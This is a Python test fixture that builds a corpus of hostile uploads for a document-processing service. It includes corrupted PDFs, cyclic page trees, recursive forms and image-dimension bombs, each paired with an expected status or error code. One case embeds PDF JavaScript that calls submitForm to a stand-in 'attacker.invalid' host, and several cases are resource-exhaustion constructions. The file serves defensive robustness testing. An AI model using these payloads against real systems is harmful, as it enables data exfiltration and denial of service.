"""A corpus of hostile uploads, built in code and the same on every run (byte flips come from a seeded generator).

Each case says what the service must make of it. `refused` cases are answered at upload with an HTTP status and
an error code, storing nothing. Every other case is accepted and ends in `outcomes`: most fail with one stable
code; some are damaged files MuPDF repairs (a broken xref, a truncated tail), whose documented outcome is a
success or a stable code, never a hang or a worker death.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from PIL import Image

from tests.documents.samples import build_pdf, corpus_bytes, image_bytes, png_header, stream_object, tiff_pages

FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
LETTER = "/MediaBox [0 0 612 792]"
ANY_FINAL = frozenset({"succeeded", "partial", "failed"})


@dataclass(frozen=True)
class Hostile:
    name: str  # the upload's file name, which also names the case in a failure
    data: bytes
    outcomes: frozenset[str] = frozenset({"failed"})  # the document statuses it may end in
    code: str | None = None  # the one error code it must carry (on the document or on every page), when known
    refused: tuple[int, str] | None = None  # (HTTP status, error code) when the upload itself is refused


def text_pdf(text: str) -> bytes:
    """A one-page PDF that says `text`: the good document the hostile ones are built from."""
    page = f"{LETTER} /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R"
    return build_pdf([page], {4: FONT, 5: stream_object(f"BT /F1 28 Tf 72 700 Td ({text}) Tj ET".encode())})


def with_javascript() -> bytes:
    """Valid PDF with an OpenAction script, a document-level script and a page-open action: Quire never runs them."""
    script = "<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://attacker.invalid/');) >>"
    out = text_pdf("Scripted")
    return out.replace(b"<< /Type /Catalog /Pages 2 0 R >>",
                       f"<< /Type /Catalog /Pages 2 0 R /OpenAction {script} /Names << /JavaScript << /Names "
                       f"[(x) {script}] >> >> >>".encode()).replace(
        b"/Contents 5 0 R", f"/Contents 5 0 R /AA << /O {script} >>".encode())


def byte_flipped(data: bytes, flips: int, seed: int) -> bytes:
    """`flips` bytes past the header replaced with random ones, from a seeded generator."""
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(flips):
        out[rng.randrange(16, len(out))] = rng.randrange(256)
    return bytes(out)


def shifted_xref(data: bytes) -> bytes:
    """Every xref offset off by 7 bytes and startxref past the end: MuPDF must rebuild the table by scanning."""
    head, _, tail = data.partition(b"xref\n")
    lines = tail.split(b"\n")
    fixed = [b"%010d %s" % (int(line[:10]) + 7, line[11:]) if line.endswith(b" n ") else line for line in lines]
    out = head + b"xref\n" + b"\n".join(fixed)
    return out.replace(b"startxref\n%d" % len(head), b"startxref\n99999999")


def no_xref(data: bytes) -> bytes:
    """The xref table and trailer gone; only objects are left."""
    return data[:data.index(b"xref\n")] + b"%%EOF\n"


def recursive_page_tree() -> bytes:
    """A page tree whose node lists itself among its kids (and claims one page)."""
    return build_pdf([]).replace(b"<< /Type /Pages /Kids [] /Count 0 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def page_tree_cycle() -> bytes:
    """Two page-tree nodes that are each other's kid, claiming three pages."""
    return build_pdf([], {3: "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 3 >>"}).replace(
        b"<< /Type /Pages /Kids [] /Count 0 >>", b"<< /Type /Pages /Kids [3 0 R] /Count 3 >>")


def lying_page_count() -> bytes:
    """One real page under a /Count of a billion."""
    return text_pdf("count").replace(b"/Count 1 >>", b"/Count 1000000000 >>")


def recursive_form() -> bytes:
    """A form XObject that draws itself: the renderer must stop the recursion."""
    form = "<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Fx 5 0 R >> >> " \
           "/Length 7 >>\nstream\n/Fx Do\n\nendstream"
    return build_pdf([f"{LETTER} /Resources << /XObject << /Fx 5 0 R >> >> /Contents 4 0 R"],
                     {4: stream_object(b"/Fx Do"), 5: form})


def deeply_nested() -> bytes:
    """A page whose resources nest 100,000 arrays deep (a recursive parser's stack)."""
    return build_pdf([f"{LETTER} /Foo {'[' * 100_000}{']' * 100_000}"])


def mediabox(box: str) -> bytes:
    page = f"/MediaBox [{box}] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R"
    return build_pdf([page], {4: FONT, 5: stream_object(b"BT /F1 28 Tf 72 700 Td (box) Tj ET")})


def huge_pdf_image() -> bytes:
    """A page drawing an image XObject that claims 60000×60000 pixels with three bytes of data."""
    bomb = "<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 " \
           "/ColorSpace /DeviceRGB /Length 3 >>\nstream\nabc\nendstream"
    return build_pdf([f"{LETTER} /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R"],
                     {4: stream_object(b"q 612 0 0 792 0 0 cm /Im1 Do Q"), 5: bomb})


def huge_jpeg() -> bytes:
    """A real 8×8 JPEG whose frame header is patched to claim 65500×65500 pixels."""
    data = bytearray(image_bytes(Image.new("RGB", (8, 8), "white"), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = (65500).to_bytes(2, "big") * 2  # height, width
    return bytes(data)


def huge_tiff() -> bytes:
    """A TIFF whose only page claims 200000×200000 pixels."""
    data = bytearray(tiff_pages([(8, 8)]))
    for tag in (256, 257):  # ImageWidth, ImageLength: Pillow writes each as one SHORT (3) or LONG (4) value
        entry = next(tag.to_bytes(2, "little") + kind for kind in (b"\x03\x00", b"\x04\x00")
                     if tag.to_bytes(2, "little") + kind in data)
        at = data.index(entry)
        data[at + 2:at + 12] = b"\x04\x00" + (1).to_bytes(4, "little") + (200_000).to_bytes(4, "little")
    return bytes(data)


def hostile_corpus() -> list[Hostile]:
    """Every hostile case, in a fixed order."""
    good = corpus_bytes("pdflatex-4-pages.pdf")
    small = text_pdf("Damaged")
    repaired = frozenset({"succeeded", "failed"})
    return [
        Hostile("empty.pdf", b"", refused=(422, "empty")),
        Hostile("page.html", b"<!doctype html><html><body>not a document</body></html>",
                refused=(415, "unsupported_format")),
        Hostile("only-header.pdf", small[:9], code="corrupt"),
        Hostile("truncated-half.pdf", good[:len(good) // 2], outcomes=ANY_FINAL),
        Hostile("truncated-tail.pdf", small[:-40], outcomes=repaired),
        Hostile("flipped-few.pdf", byte_flipped(good, 20, seed=1), outcomes=ANY_FINAL),
        Hostile("flipped-many.pdf", byte_flipped(good, 2000, seed=2), outcomes=ANY_FINAL),
        Hostile("flipped-small.pdf", byte_flipped(small, 60, seed=3), outcomes=ANY_FINAL),
        Hostile("javascript.pdf", with_javascript(), outcomes=frozenset({"succeeded"})),
        Hostile("shifted-xref.pdf", shifted_xref(small), outcomes=repaired),
        Hostile("no-xref.pdf", no_xref(small), outcomes=repaired),
        Hostile("self-kid.pdf", recursive_page_tree(), outcomes=ANY_FINAL),
        Hostile("tree-cycle.pdf", page_tree_cycle(), outcomes=ANY_FINAL),
        Hostile("billion-pages.pdf", lying_page_count(), outcomes=ANY_FINAL),
        Hostile("recursive-form.pdf", recursive_form(), outcomes=ANY_FINAL),
        Hostile("deep-nesting.pdf", deeply_nested(), outcomes=ANY_FINAL),
        Hostile("giant-mediabox.pdf", mediabox("0 0 200000 200000"), outcomes=ANY_FINAL),
        Hostile("sliver-mediabox.pdf", mediabox("0 0 14400000 1"), outcomes=ANY_FINAL),
        Hostile("empty-mediabox.pdf", mediabox("0 0 0 0"), outcomes=ANY_FINAL),
        Hostile("huge-image.pdf", huge_pdf_image(), code="page_too_large"),
        Hostile("huge.png", png_header(100_000, 100_000), code="page_too_large"),
        Hostile("undecodable.png", png_header(3000, 3000), code="corrupt"),
        Hostile("huge.jpg", huge_jpeg(), code="page_too_large"),
        Hostile("huge.tiff", huge_tiff(), code="page_too_large"),
    ]
